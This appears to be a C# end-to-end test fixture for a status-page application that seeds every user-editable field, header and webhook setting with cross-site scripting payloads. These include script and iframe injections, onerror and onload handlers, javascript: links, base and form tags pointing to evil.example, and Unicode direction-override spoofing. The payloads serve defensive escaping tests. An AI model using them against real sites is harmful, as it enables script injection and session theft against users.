using ATStatus.Core.Access;
using ATStatus.Core.Events;
using ATStatus.Core.Incidents;
using ATStatus.Core.Maintenance;
using ATStatus.Core.Model;
using ATStatus.Core.Notifications;
using ATStatus.Core.Persistence;
using ATStatus.Core.Recovery;
using ATStatus.Core.StatusPages;
using ATStatus.Core.TestReceiver;
using ATStatus.Tests.Support;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace ATStatus.Tests.EndToEnd.Hostile;

/// <summary>A console in which every text that a person, a key, a browser or a receiver can send is an attempt to run a script.</summary>
internal sealed class HostileConsole : IAsyncDisposable
{
    /// <summary>What tries, in the place of any text: closes what it stands in, and calls the canary in every way that fits into a short field.</summary>
    private const string Attempt = "\"'><img src=x onerror=__xss()><svg/onload=__xss()>{{1}}";

    // Unlike the secret and the address, of which an answer shows no part.
    private const string Answered = "\"'><iframe src=javascript:__xss()></iframe><b onclick=__xss()>answer</b>";

    private const string Secret = "secret" + Attempt;

    private readonly ConsoleApp _app;
    private readonly CancellationToken _stop;
    private readonly LoopbackReceiver _receiver;
    private readonly List<string> _shown = [];

    private HostileConsole(ConsoleApp app, CancellationToken stop)
    {
        (_app, _stop) = (app, stop);
        _receiver = LoopbackReceiver.Start(ScriptedResponse.Status(
            500, $"<html><script>__xss()</script>{Shown("body", Answered)}</html>",
            ("Content-Type", "text/html"), ("Server", Shown("server", Answered)), ("X-Evil", Shown("header", Answered))));
    }

    /// <summary>One attempt is all; and the installation's name tries too.</summary>
    public static Dictionary<string, string> Settings { get; } = new()
    {
        ["Webhooks:MaxAttempts"] = "1",
        ["Hosting:Installation"] = $"host{Attempt}",
    };

    /// <summary>Every text as some page must show it, letter by letter.</summary>
    public IReadOnlyCollection<string> ShownTexts => _shown;

    /// <summary>A value for queries.</summary>
    public static string InAddress { get; } = Uri.EscapeDataString($"query{Attempt}");

    public int Window { get; private set; }

    public int Cancelled { get; private set; }

    public long Delivery { get; private set; }

    public long Event { get; private set; }

    public static async Task<HostileConsole> FillAsync(ConsoleApp app, CancellationToken stop)
    {
        var console = new HostileConsole(app, stop);
        await console.FillAsync();
        return console;
    }

    public ValueTask DisposeAsync() => _receiver.DisposeAsync();

    private async Task FillAsync()
    {
        var ada = new Actor(Shown("<img/src=x/onerror=__xss()>@example.com", ""));
        await FillAccountsAsync(ada);
        var page = await Get<StatusPageService>().CreateAsync(
            new StatusPageInput(Shown("page"), "main", Long("page-description"), PublicUrl: $"https://status.example.com/{Attempt.Replace(' ', '/')}"), _stop);
        var group = await Get<ComponentOrder>().AddGroupAsync(page, Shown("group"), _stop);
        await Get<NotificationService>().CreateAsync(new NotificationInput("webhook", Shown("notification"), new(_receiver.Url.AbsoluteUri + "?\"><img/src=x/onerror=__xss()>", Secret)
        {
            Headers = [new("X-Evil", $"value{Attempt}")],
        }, new([.. EventTypes.All])), _stop);
        var builtIn = await Get<NotificationService>().CreateAsync(
            new NotificationInput("webhook", Shown("receiver"), new(TestReceiverEndpoint.Url, Secret), new([.. EventTypes.All])), _stop);
        await Get<NotificationService>().CreateAsync(new NotificationInput("discord", Shown("discord"), new(StandInServices.DiscordUrl)
        {
            Options = new() { Settings = new Dictionary<string, string> { ["userName"] = "<img src=x onerror=__xss()>", ["avatarUrl"] = "https://evil.example/x.png" } },
        }, new([EventType.ComponentDeleted])), _stop);
        var component = await Get<ComponentService>().CreateAsync(
            new ComponentInput(page, Shown("component"), ComponentStatus.Operational, Shown("component-description"), GroupId: group), _stop);
        await Get<IncidentTemplateService>().AddAsync(
            new IncidentTemplateInput(Shown("template"), Shown("template-title"), IncidentSeverity.Major, IncidentStatus.Investigating, Long("template-message")), _stop);
        var incident = await Get<IncidentService>().CreateAsync(
            new IncidentInput(page, Shown("incident"), IncidentSeverity.Critical, IncidentStatus.Investigating, Long("incident-message"), [new AffectedComponent(component)]), ada, _stop);
        await Get<IncidentService>().PostUpdateAsync(
            incident, (await Get<IncidentQueries>().FindAsync(incident, _stop))!.Version, new IncidentUpdateInput(IncidentStatus.Identified, Long("update")), ada, _stop);
        await FillMaintenanceAsync(page, component, ada);
        await Get<TestSendService>().SendSavedAsync(builtIn, EventType.IncidentCreated, _stop);
        await SettleAsync();
        await Get<RecoveryService>().BeginAsync(new RecoveryRequest(1, DateTime.UtcNow.AddHours(-1)), ada, _stop);
    }

    private async Task FillAccountsAsync(Actor ada)
    {
        await _app.AddUserAsync(ada.Name, ConsoleApp.AdminPassword, Roles.Viewer);
        await Get<AccountService>().InviteAsync(new InvitationInput(Shown("<svg/onload=__xss()>@example.com", ""), new AccountInput(Roles.Editor)), ada, _stop);
        await Get<ApiKeyService>().CreateAsync(new ApiKeyInput(Shown("key"), [ApiScopes.ReadIncidents], ApiKeyExpiry.Never), ada, _stop);
        using var browser = _app.CreateClient();
        Assert.True(browser.DefaultRequestHeaders.TryAddWithoutValidation("User-Agent", Shown("device")));
        (await browser.SubmitAsync("login", "login", ("Input.Email", $"failed{Attempt}@example.com"), ("Input.Password", Attempt))).Dispose();
        (await browser.SubmitAsync("login", "login", ("Input.Email", ConsoleApp.AdminEmail), ("Input.Password", ConsoleApp.AdminPassword))).Dispose();
        await using var scope = _app.Services.CreateAsyncScope();
        var users = scope.ServiceProvider.GetRequiredService<UserManager<User>>();
        var admin = (await users.FindByNameAsync(ConsoleApp.AdminEmail))!;
        Assert.True((await users.AddOrUpdatePasskeyAsync(admin, new UserPasskeyInfo([1], [1], DateTimeOffset.UtcNow, 0, [], true, false, false, [], [])
        {
            Name = Shown("passkey"),
        })).Succeeded);
    }

    private async Task FillMaintenanceAsync(int page, int component, Actor ada)
    {
        var service = Get<MaintenanceService>();
        var soon = DateTime.UtcNow.Date.AddDays(3).AddHours(12);
        Window = await service.ScheduleAsync(
            new MaintenanceInput(page, Shown("window"), Long("window-message"), [component], soon, soon.AddHours(1), Rule: $"0 12 * * {(int)soon.DayOfWeek}"), _stop);
        await service.PostUpdateAsync(Window, new MaintenanceUpdateInput(Long("window-update")), ada, _stop);
        Cancelled = await service.ScheduleAsync(new MaintenanceInput(page, Shown("cancelled"), "m", [component], soon, soon.AddHours(1)), _stop);
        await service.CancelAsync(
            Cancelled, (await Get<MaintenanceQueries>().FindAsync(Cancelled, _stop))!.Version, new MaintenanceCancelInput(Long("note"), Notify: true), ada, _stop);
    }

    /// <summary>Waits until a delivery was given up, and takes note of it.</summary>
    private Task SettleAsync() => Eventually.TrueAsync(async () =>
    {
        await using var db = await Get<IDbContextFactory<AtStatusDbContext>>().CreateDbContextAsync(_stop);
        if (await db.Deliveries.AsNoTracking().Where(d => d.State == DeliveryState.Failed && d.LastStatusCode == 500).OrderBy(d => d.Id).FirstOrDefaultAsync(_stop) is not { } failed)
            return false;
        (Delivery, Event) = (failed.Id, failed.EventId);
        return true;
    });

    /// <summary>A text that some page must show.</summary>
    private string Shown(string name, string attempt = Attempt)
    {
        _shown.Add(name + attempt);
        return name + attempt;
    }

    /// <summary>The same with what needs more room, and with characters that nobody sees.</summary>
    private string Long(string name) => Shown(
        name, Attempt + "</textarea></title><script>__xss()</script><iframe srcdoc=\"<script>parent.__xss()</script>\"></iframe><a href=\"javascript:__xss()\">javascript:__xss()</a>"
        + "<style>@import '//evil.example/x.css'</style><form action=//evil.example/><base href=//evil.example/> \u202Egnp.exe\u202C\u2066\u200B ${__xss()} end");

    private T Get<T>()
        where T : notnull => _app.Services.GetRequiredService<T>();
}
